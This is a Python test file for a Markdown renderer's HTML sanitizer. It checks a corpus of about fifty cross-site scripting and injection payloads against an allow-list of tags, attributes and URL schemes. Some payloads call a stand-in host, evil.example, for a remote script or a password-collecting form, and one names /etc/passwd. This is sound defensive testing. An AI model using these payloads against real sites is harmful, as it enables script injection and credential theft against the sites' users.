"""What people write in Markdown never becomes script, style or a form on somebody's page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hubsite.lib.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, linked, render, render_with_contents

CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)",
    "![x\" onerror=\"alert(1)](https://example.org/x.png)",
    "![x](https://example.org/x.png \"t\\\" onerror=\\\"alert(1)\")",
    "[x](https://example.org \"t\\\" onmouseover=\\\"alert(1)\")",
    "<https://example.org/\" onmouseover=\"alert(1)>",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ref]\n\n[ref]: https://example.org '\"><script>alert(1)</script>'",
    "## <img src=x onerror=alert(1)>",
    "## x\" onclick=\"alert(1)",
    "# </h2><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action='//evil.example'><input name=password></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href='https://example.org' target=_blank hx-get='/x' hx-trigger=load>x</a>",
    "<div hx-get='/central/' hx-trigger='load'></div>",
    "<div id=main class=notice data-opens=x>x</div>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u0000<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "{{ request.user.password }}{% load static %}",
]  # fmt: skip

ATTRIBUTES = {tag: set(names) for tag, names in ALLOWED_ATTRIBUTES.items()} | {"h2": {"id"}}
ATTRIBUTES["a"] |= {"rel"}
TABLE_BOX = [("class", "prose-table"), ("role", "group"), ("aria-label", "Table"), ("tabindex", "0")]


class Inspector(HTMLParser):
    """Fails on anything that the list does not allow."""

    def handle_starttag(self, tag, attrs):
        if (tag, attrs) == ("div", TABLE_BOX):
            return
        assert tag in ALLOWED_TAGS, f"<{tag}> came through"
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()), f"{name} on <{tag}> came through"
            if name in {"href", "src"}:
                self.check_address(value or "")

    def check_address(self, value):
        scheme, colon, _rest = value.strip().lower().partition(":")
        if colon and scheme.isalpha():
            assert scheme in {"http", "https", "mailto"}, f"{value} came through"


def inspect(html: str) -> None:
    inspector = Inspector(convert_charrefs=True)
    inspector.feed(html)
    inspector.close()


@pytest.mark.parametrize("source", CORPUS)
def test_known_attacks_come_out_harmless(source):
    inspect(render(source))
    inspect(render(source, links=True))
    inspect(render_with_contents(source)[0])


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from("<>/\"'=:()[]!#&;`*_-\n\t ajsciptonerlx@.{}%\u0000"), max_size=120))
def test_no_arrangement_of_the_characters_of_an_attack_comes_through(source):
    inspect(render_with_contents(source)[0])


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(CORPUS), min_size=2, max_size=4), st.sampled_from(["", "\n", "\n\n", " "]))
def test_no_combination_of_attacks_comes_through(pieces, glue):
    inspect(render_with_contents(glue.join(pieces))[0])
    inspect(render(glue.join(["https://example.org/", *pieces]), links=True))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200))
def test_any_text_can_be_rendered(source):
    inspect(render_with_contents(source)[0])


def test_what_playbooks_need_survives():
    words = "# One\n\n**b** *i* ~~s~~ [w](https://example.org)\n\n"
    html = render(words + "1. x\n\n- y\n\n> q\n\n| a |\n|---|\n| 1 |")
    for tag in ("<h2>", "<strong>", "<em>", "<s>", "<ol>", "<ul>", "<blockquote>", "<table>"):
        assert tag in html
    assert '<a href="https://example.org" rel="noopener noreferrer nofollow">w</a>' in html


def test_a_table_scrolls_in_a_box_that_the_keyboard_reaches():
    html = render("| a |\n|---|\n| 1 |\n\n`<table>`")
    assert html.count('<div class="prose-table" role="group" aria-label="Table" tabindex="0"><table>') == 1
    assert html.count("</table></div>") == 1


def test_headings_are_listed_as_people_read_them_and_anchors_are_unique():
    html, headings = render_with_contents("## Do & don't\n\nx\n\n## Steps\n\ny\n\n## Steps\n\nz")
    assert [(h.title, h.anchor) for h in headings] == [
        ("Do & don't", "do-dont"),
        ("Steps", "steps"),
        ("Steps", "steps-2"),
    ]
    assert '<h2 id="steps-2">' in html


def test_web_addresses_in_plain_words_are_links_and_nothing_else_is():
    html = linked("See https://example.org/a?b=1&c=2, not javascript:alert(1) or <b>this</b>")
    assert 'href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow"' in html
    assert html.count("<a ") == 1
    assert "<b>" not in html


def test_bare_addresses_in_markdown_are_links_but_not_in_links_and_code():
    said = "https://example.org/?a=1&b=2 [here](https://example.org/x) `https://example.org/y`"
    html = render(f"{said} <script>alert(1)</script>", links=True)
    assert html.count("<a ") == 2
    assert 'href="https://example.org/?a=1&amp;b=2"' in html
    assert "<code>https://example.org/y</code>" in html
    assert "<script" not in html


def test_cells_of_a_table_carry_the_heading_of_their_column_as_text():
    html = render('| Say | <b>Why</b> " |\n|---|---|\n| Hello | it is *kind* |\n\n| Other |\n|---|\n| one |')
    assert '<td data-label="Say">Hello</td>' in html
    assert '<td data-label="&lt;b&gt;Why&lt;/b&gt; &quot;">it is <em>kind</em></td>' in html
    assert '<td data-label="Other">one</td>' in html
